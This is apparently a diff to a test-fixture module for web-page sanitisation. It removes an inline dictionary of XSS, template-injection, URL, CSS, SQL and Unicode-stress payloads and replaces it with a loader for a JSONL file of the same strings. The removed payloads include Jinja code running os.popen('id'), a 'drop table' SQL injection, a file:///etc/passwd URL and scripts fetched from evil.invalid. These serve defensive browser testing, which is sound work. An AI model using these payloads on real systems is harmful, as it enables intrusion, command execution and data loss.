@@ -1,87 +1,40 @@
-"""Texts that attack a page: script, attribute, address, SVG, CSS, bidi, templates.
+"""Texts that attack a page, from `payloads.jsonl`: each line has a name, a kind, what it is for
+and the text (`times` over where it is a repetition).
 
 Each that could run a script sets `window.hacked`, or asks for an address at
-`evil.invalid`, so that a browser test sees it happen.
+`https://evil.invalid`, so that a browser test sees it happen.
 """
 
-_RUN = "window.hacked=1"
+import json
+from dataclasses import dataclass
+from pathlib import Path
 
-PAYLOADS: dict[str, str] = {
-    "script": f"<script>{_RUN}</script>",
-    "script_upper": f"<ScRiPt>{_RUN}</sCrIpT>",
-    "script_src": '<script src="https://evil.invalid/a.js"></script>',
-    "script_split": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
-    "script_close": f"</script><script>{_RUN}</script>",
-    "style_close": f"</style><script>{_RUN}</script>",
-    "title_close": f"</title><script>{_RUN}</script>",
-    "textarea_close": f"</textarea><script>{_RUN}</script>",
-    "comment": f"--><script>{_RUN}</script><!--",
-    "cdata": f"]]><script>{_RUN}</script><![CDATA[",
-    "img_onerror": f"<img src=x onerror={_RUN}>",
-    "img_request": "<img src=https://evil.invalid/a.png>",
-    "img_srcset": '<img srcset="https://evil.invalid/b.png 1x">',
-    "svg_onload": f"<svg onload={_RUN}>",
-    "svg_script": f"<svg><script>{_RUN}</script></svg>",
-    "svg_animate": f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
-    "svg_foreign": f"<svg><foreignObject><iframe srcdoc='<script>{_RUN}</script>'>",
-    "svg_use": '<svg><use href="https://evil.invalid/c.svg#x"></use></svg>',
-    "svg_close": f"</title></svg><script>{_RUN}</script>",
-    "math": f'<math><mtext><img src=x onerror="{_RUN}"></mtext></math>',
-    "attribute_double": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
-    "attribute_single": f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}",
-    "attribute_none": f"x onfocus={_RUN} autofocus tabindex=1",
-    "attribute_tick": f"`onfocus={_RUN}`",
-    "attribute_close": f'"><script>{_RUN}</script>',
-    "javascript_url": f"javascript:{_RUN}",
-    "javascript_url_upper": f"JaVaScRiPt:{_RUN}",
-    "javascript_url_tab": f"java\tscript:{_RUN}",
-    "javascript_url_newline": f"java\nscript:{_RUN}",
-    "javascript_url_control": f"\x01javascript:{_RUN}",
-    "data_url": f"data:text/html,<script>{_RUN}</script>",
-    "vbscript_url": "vbscript:msgbox(1)",
-    "file_url": "file:///etc/passwd",
-    "blob_url": "blob:https://evil.invalid/1",
-    "protocol_relative": "//evil.invalid/a.js",
-    "userinfo_url": "https://social.example@evil.invalid/",
-    "quoted_url": f'https://social.example/" onclick="{_RUN}',
-    "bidi_url": "https://social.example/\u202egpj.exe",
-    "iframe": "<iframe src=https://evil.invalid/></iframe>",
-    "object": "<object data=https://evil.invalid/></object>",
-    "embed": "<embed src=https://evil.invalid/>",
-    "link": '<link rel=stylesheet href="https://evil.invalid/a.css">',
-    "link_prefetch": '<link rel=prefetch href="https://evil.invalid/p">',
-    "meta_refresh": '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
-    "base": '<base href="https://evil.invalid/">',
-    "form": f'<form action="javascript:{_RUN}"><input type=submit autofocus></form>',
-    "body_onload": f"<body onload={_RUN}>",
-    "details": f"<details open ontoggle={_RUN}>x</details>",
-    "video": f"<video><source onerror={_RUN}></video>",
-    "style_tag": "<style>*{display:none!important}</style>",
-    "style_import": "<style>@import url(https://evil.invalid/a.css);</style>",
-    "style_attribute": '<div style="position:fixed;inset:0;background:url(//evil.invalid)">x</div>',
-    "css_expression": "}</style> body{display:none} expression(alert(1))",
-    "dialog": "<script>alert(1);confirm(2);prompt(3)</script>",
-    "console": "<script>console.error('hacked')</script>",
-    "entity": f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;script&#62;",
-    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "null_byte": f"<scr\x00ipt>{_RUN}</script>",
-    "jinja": "{{ 7*191 }} {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
-    "jinja_globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }} {# gone #}",
-    "angular": "{{constructor.constructor('window.hacked=1')()}}",
-    "markdown": f"[x](javascript:{_RUN}) ![x](https://evil.invalid/d.png)",
-    "bidi_override": "\u202etxet desrever\u202c and \u2066isolated \u2067open",
-    "bidi_unbalanced": "\u202e\u202e\u2067\u2067\u2069\u2069\u2069 the rest must stay in order",
-    "rtl": "\u0645\u0631\u062d\u0628\u0627 \u0628\u0643\u0645 hello \u05e9\u05dc\u05d5\u05dd",
-    "zalgo": "".join(letter + "\u0336\u0351\u0328\u0321\u034e" * 12 for letter in "he comes"),
-    "zalgo_tower": "Z" + "\u0315\u030d" * 400,
-    "wide_ligature": "\ufdfd" * 60,
-    "zero_width": "a\u200b\u200c\u2060\ufeffb" * 30,
-    "no_spaces": "W" * 3000,
-    "many_lines": "line\n" * 2000,
-    "huge": "lorem ipsum " * 4000,
-    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 200,
-    "surrounding_space": "\u3000\u00a0 \t\n" * 50 + "x",
-    "line_separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
-    "sql": "'; drop table posts; --",
-    "lone_marks": "<!DOCTYPE html><html><head></head></html> & < > \" '",
-}
+EVIL = "https://evil.invalid"
+
+
+@dataclass(frozen=True, slots=True)
+class Payload:
+    """One text, and what it attacks."""
+
+    name: str
+    kind: str
+    purpose: str
+    text: str
+
+
+def _read() -> tuple[Payload, ...]:
+    path = Path(__file__).with_name("payloads.jsonl")
+    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
+    return tuple(
+        Payload(
+            name=line["name"],
+            kind=line["kind"],
+            purpose=line["purpose"],
+            text=line["text"] * line.get("times", 1),
+        )
+        for line in lines
+    )
+
+
+CORPUS = _read()
+PAYLOADS: dict[str, str] = {payload.name: payload.text for payload in CORPUS}
